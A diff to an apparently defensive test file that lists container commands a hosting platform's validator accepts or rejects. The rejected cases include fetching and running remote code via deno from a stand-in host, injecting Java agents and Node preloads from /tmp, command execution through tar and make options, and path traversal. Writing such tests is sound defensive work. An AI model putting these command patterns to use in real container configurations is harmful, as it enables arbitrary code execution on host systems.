@@ -140,8 +140,9 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("runs /tmp/tool", of_container("command", ["/tmp/tool"])),
         ("starts tar --to-command=id", of_container("command", ["tar", "xf", "/app/x", "--to-command=id"])),
         ("starts make --eval=x:;id", of_container("command", ["make", "--eval=x:;id"])),
-        ("starts deno https://x.test/a", of_container("command", ["deno", "run", "https://x.test/a"])),
-        ("starts java -javaagent:/x", of_container("command", ["java", "-javaagent:/x", "-jar", "/app/x.jar"])),
+        ("runs https://x.test/a, which does", of_container("command", ["deno", "run", "-A", "https://x.test/a"])),
+        ("runs /tmp/x.jar", of_container("command", ["java", "-javaagent:/tmp/x.jar=a", "-jar", "/app/x.jar"])),
+        ("runs /tmp/x.js", of_container("command", ["node", "--require=/tmp/x.js", "/app/x.js"])),
         ("runs /app/../tmp/tool", of_container("command", ["/app/../tmp/tool"])),
         ("runs /proc/self/environ", of_container("command", ["python3", "/proc/self/environ"])),
     ],
@@ -670,6 +671,17 @@ GREEN: dict[str, list[Patch]] = {
         variable("GREETING", "$(BYOHOST_HOST) of $$(HOME)"),
         variable("PYTHONPATH", "/app:/app/vendor"),
         variable("OVERRIDDEN", "$(NOBODY)"),
+        variable("BASH_ENV", "/dev/null"),
+        variable("JAVA_TOOL_OPTIONS", "-Djava.io.tmpdir=/tmp -XX:HeapDumpPath=/tmp/dump -javaagent:/app/agent.jar"),
+    ],
+    "another command of the image": [
+        of_container("command", ["node", "/app/operator.js", "https://platform.byohost.test"]),
+        mount("/usr/lib/ssl/certs"),
+    ],
+    "a third command of the image": [
+        of_container(
+            "command", ["java", "-javaagent:/app/agent.jar=x", "-Djava.io.tmpdir=/tmp", "-jar", "/app/it.jar"]
+        ),
     ],
     "a size for all its containers together": [
         of_pod(
